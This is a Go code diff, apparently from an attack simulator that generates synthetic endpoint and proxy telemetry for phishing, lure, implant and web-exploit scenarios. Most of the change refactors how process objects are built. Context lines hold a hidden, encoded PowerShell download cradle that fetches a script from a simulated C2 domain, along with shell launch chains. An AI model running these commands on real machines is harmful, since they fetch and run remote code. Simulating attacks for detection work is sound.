@@ -216,7 +216,7 @@ func (a *Attempt) implant(h *world.Host, who *world.Account, via *Foothold, port
 	if a.Rand.Bool(a.quiet()) { // a signed program that loads a library of its own vendor's name
 		file, starter, library = world.Signed(folder+name, "Viewer Software Ltd"), world.Svchost, "viewcore.dll"
 	}
-	shell := &world.Process{Host: h, PID: 4000, Binary: starter, CommandLine: starter.Path, Account: who, Integrity: integrity, GUID: "{00000000-0000-0000-0000-000000000fa0}"}
+	shell := h.Program(starter, starter.Path, who)
 	a.World.CreateFile(a.Now, a.Actor, shell, file.Path)
 	i := a.World.Plant(a.Now+2*time.Second, a.Actor, world.Start{Host: h, Account: who, Binary: file, CommandLine: `"` + file.Path + `"`, Integrity: integrity, Parent: shell})
 	a.World.LoadImage(a.Now+3*time.Second, a.Actor, i.Process, &world.Binary{Path: folder + library, OriginalName: "-", Company: "-", Product: "-", Description: "-", Version: "-"})
@@ -239,8 +239,8 @@ func phish(a *Attempt) Progress {
 	}
 	h := victim.Home
 	downloads := `C:\Users\` + victim.Name + `\Downloads\`
-	office := &world.Process{Host: h, PID: 5120, Binary: world.Winword, CommandLine: `"` + world.Winword.Path + `" /n "` + downloads + `Invoice_2026.docm"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-000000001400}"}
-	outlook := &world.Process{Host: h, PID: 4560, Binary: world.Outlook, CommandLine: `"` + world.Outlook.Path + `"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-0000000011d0}"}
+	office := h.Program(world.Winword, `"` + world.Winword.Path + `" /n "` + downloads + `Invoice_2026.docm"`, victim)
+	outlook := h.Program(world.Outlook, `"` + world.Outlook.Path + `"`, victim)
 	var launcher *world.Process
 	switch a.Tool {
 	case "macro":
@@ -250,7 +250,7 @@ func phish(a *Attempt) Progress {
 		launcher = word
 	case "lnk in zip":
 		w.CreateFile(a.Now, a.Actor, outlook, downloads+"Invoice_2026.zip")
-		explorer := &world.Process{Host: h, PID: 3300, Binary: world.Explorer, CommandLine: `C:\Windows\Explorer.EXE`, Account: victim, GUID: "{00000000-0000-0000-0000-000000000ce4}"}
+		explorer := h.Program(world.Explorer, `C:\Windows\Explorer.EXE`, victim)
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c start /b powershell`, Parent: explorer})
 	case "signed installer":
 		w.CreateFile(a.Now, a.Actor, outlook, downloads+"ViewerSetup.exe")
@@ -262,7 +262,7 @@ func phish(a *Attempt) Progress {
 	}
 	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.c2().Domain)
 	shell := w.StartProcess(a.Now+8*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -nop -w hidden -enc ` + encoded(script), Parent: launcher})
-	w.RunScript(a.Now+9*time.Second, a.Actor, h, script)
+	w.RunScript(a.Now+9*time.Second, a.Actor, shell, script)
 	return a.phished(shell, victim)
 }
 
@@ -294,7 +294,7 @@ func lure(a *Attempt, mailed bool) Progress {
 		return failure("nobody left to lure")
 	}
 	h, c2 := victim.Home, a.c2()
-	browser := &world.Process{Host: h, PID: 6120, Binary: world.Chrome, CommandLine: `"` + world.Chrome.Path + `"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-0000000017e8}"}
+	browser := h.Program(world.Chrome, `"` + world.Chrome.Path + `"`, victim)
 	w.Resolve(a.Now, a.Actor, h, browser, c2.Domain, "A", c2.Address)
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
 		return blocked(r)
@@ -309,8 +309,8 @@ func lure(a *Attempt, mailed bool) Progress {
 	w.ProxyRequest(a.Now+time.Second, a.Actor, world.Request{From: world.At(h), To: c2, Port: 80, Method: "GET", Host: c2.Domain, URI: "http://" + c2.Domain + "/d/" + name, Agent: browserAgent, Status: "200", Sent: 900, Received: 900e3, User: victim.Name})
 	downloads := `C:\Users\` + victim.Name + `\Downloads\`
 	w.CreateFile(a.Now+2*time.Second, a.Actor, browser, downloads+name)
-	w.WindowsLog(a.Now+2*time.Second, a.Actor, h, victim, "Sysmon 15", "Image", world.Chrome.Path, "TargetFilename", downloads+name+":Zone.Identifier", "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=https://"+c2.Domain+"/d/"+name, "Hash", "-")
-	explorer := &world.Process{Host: h, PID: 3300, Binary: world.Explorer, CommandLine: `C:\Windows\Explorer.EXE`, Account: victim, GUID: "{00000000-0000-0000-0000-000000000ce4}"}
+	w.Log(a.Now+2*time.Second, a.Actor, browser, "Sysmon 15", "TargetFilename", downloads+name+":Zone.Identifier", "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=https://"+c2.Domain+"/d/"+name, "Hash", "-")
+	explorer := h.Program(world.Explorer, `C:\Windows\Explorer.EXE`, victim)
 	var p *world.Process
 	switch {
 	case name == "Scan_2026.iso":
@@ -409,7 +409,7 @@ func exploitWeb(a *Attempt) Progress {
 	if a.failed || len(h.Vulnerabilities) == 0 {
 		return failure("%s has no hole that fits", h.Name)
 	}
-	parent := &world.Process{Host: h, PID: 812, Binary: world.Apache, CommandLine: "/usr/sbin/apache2 -k start", GUID: "{00000000-0000-0000-0000-00000000032c}"}
+	parent := h.System(world.Apache, "/usr/sbin/apache2 -k start")
 	w.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: h, Binary: world.Bash, CommandLine: "sh -c id", Parent: parent})
 	c2 := a.c2()
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
